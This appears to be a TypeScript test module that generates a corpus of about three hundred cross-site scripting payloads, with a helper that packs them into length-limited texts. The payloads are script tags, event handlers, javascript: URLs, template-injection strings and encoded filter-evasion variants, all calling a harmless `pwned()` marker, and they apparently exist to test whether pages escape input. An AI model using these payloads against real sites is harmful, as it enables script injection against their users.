/** What ends the text, attribute, element or comment that a value was put into. */
const BREAKS = ['', '">', "'>", '</script>', '</title>', '</textarea>--><!---->']

/**
 * Each would call `pwned`, or leave an element with data-x, wherever a value is taken for markup, script, style or
 * address.
 */
const VECTORS = [
  '<script data-x>pwned()</script>',
  '<ScRiPt data-x>pwned()</sCrIpT>',
  '<script data-x src=/x-pwned></script>',
  '<script/data-x/>pwned()</script>',
  '<img data-x src=x onerror=pwned()>',
  '<img data-x src=x onerror="pwned()">',
  '<img/data-x/src=x/onerror=pwned()>',
  '<IMG DATA-X SRC=x OnErRoR=pwned()>',
  '<img data-x src=x onerror\n=pwned()>',
  '<img data-x srcset=x onerror=pwned()>',
  '<svg data-x onload=pwned()>',
  '<svg data-x><script>pwned()</script></svg>',
  '<svg><animate data-x onbegin=pwned()>',
  '<svg><a data-x xlink:href="javascript:pwned()">x</a>',
  '<math><mtext data-x></mtext><img data-x src=x onerror=pwned()>',
  '<body data-x onload=pwned()>',
  '<iframe data-x srcdoc="<script>parent.pwned()</script>">',
  '<iframe data-x src="javascript:pwned()">',
  '<object data-x data="javascript:pwned()">',
  '<embed data-x src="javascript:pwned()">',
  '<link data-x rel=stylesheet href=/x-pwned>',
  '<style data-x>@import "/x-pwned"</style>',
  '<base data-x href="//pwned.example/">',
  '<meta data-x http-equiv=refresh content="0;url=/x-pwned">',
  '<form data-x action="javascript:pwned()"><button autofocus>',
  '<input data-x autofocus onfocus=pwned()>',
  '<details data-x open ontoggle=pwned()>',
  '<video data-x><source onerror=pwned()>',
  '<audio data-x src=x onerror=pwned()>',
  '<marquee data-x onstart=pwned()>',
  '<a data-x href="javascript:pwned()" autofocus>x</a>',
  '<div data-x style="animation:x" onanimationstart=pwned()>',
  '<template data-x><img src=x onerror=pwned()></template>',
  '<noscript><p title="</noscript><img data-x src=x onerror=pwned()>">',
  '" data-x onmouseover=pwned() autofocus onfocus=pwned() "',
  "' data-x onfocus=pwned() autofocus '",
  '` data-x onfocus=pwned() autofocus `',
  '";pwned();//',
  "';pwned();//",
  "'-pwned()-'",
  '\\";pwned();//',
  '${pwned()}{{pwned()}}#{pwned()}<%=pwned()%>',
  "{{constructor.constructor('pwned()')()}}",
  'javascript:pwned()',
  'JaVaScRiPt&colon;pwned()',
  'data:text/html,<script>pwned()</script>',
  '&lt;img data-x src=x onerror=pwned()&gt;',
  '\\u003cimg data-x src=x onerror=pwned()\\u003e',
  '%3Cimg data-x src=x onerror=pwned()%3E',
  '\u2028pwned()\u2029//',
]

/** Three hundred texts that run in pages that do not keep text and markup apart. */
export const CORPUS: readonly string[] = BREAKS.flatMap((before) => VECTORS.map((vector) => before + vector))

/** All of them in texts of limited length, one on each line. @param max characters of a text */
export function inTexts(max: number): string[] {
  const texts: string[] = []
  let text = ''
  for (const payload of CORPUS.map((one) => one.replaceAll('\n', ' '))) {
    if (text.length + payload.length + 1 > max) {
      texts.push(text)
      text = ''
    }
    text += text === '' ? payload : `\n${payload}`
  }
  return [...texts, text]
}
